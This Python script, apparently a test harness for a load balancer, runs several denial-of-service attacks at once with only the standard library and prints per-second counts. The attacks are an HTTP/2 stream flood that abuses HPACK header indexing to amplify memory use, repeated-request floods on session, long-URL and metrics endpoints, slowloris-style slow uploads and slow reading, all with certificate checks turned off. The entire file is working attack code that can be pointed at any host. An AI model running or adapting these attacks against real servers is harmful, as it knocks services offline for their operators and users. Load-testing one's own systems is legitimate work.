"""Attacks of one hostile client, at once. Standard library only: a bare container runs this file.

python hostile.py https balancer 60     for 60 s; prints the counts of each attack as JSON, a line a second
"""

from __future__ import annotations

import contextlib
import json
import socket
import ssl
import struct
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import partial
from typing import BinaryIO

SETTINGS, HEADERS = 4, 1
END_HEADERS = 4


@contextlib.contextmanager
def http2_flood(connect: Callable[[], socket.socket], connections: int, streams: int) -> Iterator[int]:
    """Hold connections with many unfinished uploads of HTTP/2 each; yield how many connections are held.

    Each stream names a body of 60,000 bytes that never comes, and one header of 4,000 bytes twenty times. The
    header is sent once and then repeated by its number (RFC 7541), so 12 KB make the receiver hold 8 MB.
    """
    held: list[socket.socket] = []
    try:
        for _ in range(connections):
            with contextlib.suppress(OSError):
                connection = connect()
                held.append(connection)
                connection.sendall(greeting(streams))
        yield len(held)
    finally:
        for connection in held:
            connection.close()


def greeting(streams: int) -> bytes:
    """Return the first bytes of a connection of http2_flood."""
    pieces = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", frame(SETTINGS, 0, 0, b"")]
    for number in range(streams):
        # POST, https and / are entries of the static table; 1 is the name :authority.
        block = b"\x83\x87\x84\x01" + _text(b"localhost")
        block += b"\x00" + _text(b"content-length") + _text(b"60000")
        large = b"\x40" + _text(b"x") + _text(b"x" * 4000) if number == 0 else b"\xbe"
        pieces.append(frame(HEADERS, END_HEADERS, 2 * number + 1, block + large + b"\xbe" * 19))
    return b"".join(pieces)


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Return a frame of HTTP/2 (RFC 9113 section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _text(value: bytes) -> bytes:
    """Return the value with its length before it (RFC 7541 section 5.2, without Huffman coding)."""
    length, most = len(value), 127
    if length < most:
        return bytes([length]) + value
    rest, encoded = length - most, [most]
    while rest >= 128:
        encoded.append(rest % 128 + 128)
        rest //= 128
    return bytes([*encoded, rest]) + value


LARGE = 60_000  # bytes


@dataclass(frozen=True, slots=True)
class Target:
    """The balancer, by HTTPS or in the clear. Its certificate is not checked."""

    scheme: str
    host: str

    def connect(self, protocol: str = "http/1.1", receive_buffer: int = 0) -> socket.socket:
        """Return a connection on which nothing has been sent. receive_buffer: bytes, 0 for the usual size."""
        connection = socket.socket()
        connection.settimeout(10)
        if receive_buffer:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        connection.connect((self.host, 8443 if self.scheme == "https" else 8080))
        if self.scheme == "http":
            return connection
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols([protocol])
        return context.wrap_socket(connection)

    def request(self, line: str, *headers: str) -> bytes:
        return "\r\n".join([f"{line} HTTP/1.1", f"Host: {self.host}", *headers, "", ""]).encode()


def flood(target: Target, request: bytes, counts: Counter[str]) -> None:
    """Send a request again and again, twenty at a time, and count the answers by status."""
    while True:
        with contextlib.suppress(OSError), target.connect() as connection:
            answers = connection.makefile("rb")
            while True:
                connection.sendall(request * 20)
                for _ in range(20):
                    status, _ = read_answer(answers)
                    counts[status] += 1
        time.sleep(0.1)


def read_answer(answers: BinaryIO) -> tuple[str, dict[str, str]]:
    """Read one answer to its end; return its status and its headers, by names in small letters."""
    words = answers.readline().split()
    if len(words) < 2:
        raise ConnectionResetError
    headers = {}
    while line := answers.readline().strip():
        name, _, value = line.decode("latin-1").partition(":")
        headers[name.lower()] = value.strip()
    answers.read(int(headers.get("content-length", 0)))
    return words[1].decode(), headers


def hold(open_one: Callable[[], socket.socket], step: bytes, number: int, counts: Counter[str]) -> None:
    """Hold so many connections: each half second send a step on each, read little, open closed ones again."""
    held: list[socket.socket] = []
    while True:
        with contextlib.suppress(OSError):
            while len(held) < number:
                held.append(open_one())
                counts["opened"] += 1
        for connection in list(held):
            try:
                connection.settimeout(0.001)
                connection.sendall(step)
                piece = connection.recv(600)
                if not piece:
                    raise ConnectionResetError
                if piece.startswith(b"HTTP/1.1 "):
                    counts[piece[9:12].decode()] += 1
            except TimeoutError:
                pass  # nothing to read yet
            except OSError:
                counts["closed"] += 1
                held.remove(connection)
                connection.close()
        time.sleep(0.5)


def large_session(target: Target) -> str:
    """Return the cookie of a new session that holds 60 KB."""
    large = json.dumps("x" * LARGE).encode()
    headers = ("Content-Type: application/json", f"Content-Length: {len(large)}")
    for _ in range(80):
        with target.connect() as connection:
            connection.sendall(target.request("PUT /api/session/data/large", *headers) + large)
            _, answer = read_answer(connection.makefile("rb"))
        if "set-cookie" in answer:
            return answer["set-cookie"].partition(";")[0]
        time.sleep(1)  # an attack a moment ago used up what one source may have
    raise RuntimeError("no session within 80 s")


def attacks_on(target: Target) -> dict[str, Callable[[Counter[str]], None]]:
    """Return the attacks by name. Each counts what it meets, and never ends."""
    post = "POST /api/session/counters/n"
    reading = target.request("GET /api/session", f"Cookie: {large_session(target)}") * 20
    writing = target.request(post, f"Content-Length: {LARGE}")

    def opened(greeting: bytes, protocol: str = "http/1.1", receive_buffer: int = 0) -> socket.socket:
        connection = target.connect(protocol, receive_buffer)
        connection.sendall(greeting)
        return connection

    return {
        "new sessions": partial(flood, target, target.request(post, "Content-Length: 0")),
        "long addresses": partial(flood, target, target.request("GET /api/stateless?" + "x" * 3900)),
        "metrics": partial(flood, target, target.request("GET /metrics")),
        "streams": partial(hold, partial(opened, greeting(100), "h2"), b"", 10),
        "slow uploads": partial(hold, partial(opened, writing), b"x", 40),
        "slow reading": partial(hold, partial(opened, reading, receive_buffer=2048), b"", 100),
    }


def main(scheme: str, host: str, seconds: str, *names: str) -> None:
    """Make the named attacks, or all of them, and print the counts each second."""
    attacks = attacks_on(Target(scheme, host))
    attacks = {name: attacks[name] for name in names or attacks}
    counts: dict[str, Counter[str]] = {name: Counter() for name in attacks}
    for name, attack in attacks.items():
        threading.Thread(target=attack, args=(counts[name],), daemon=True).start()
    for _ in range(int(seconds)):
        time.sleep(1)
        print(json.dumps({name: dict(met) for name, met in counts.items()}))


if __name__ == "__main__":
    main(*sys.argv[1:])
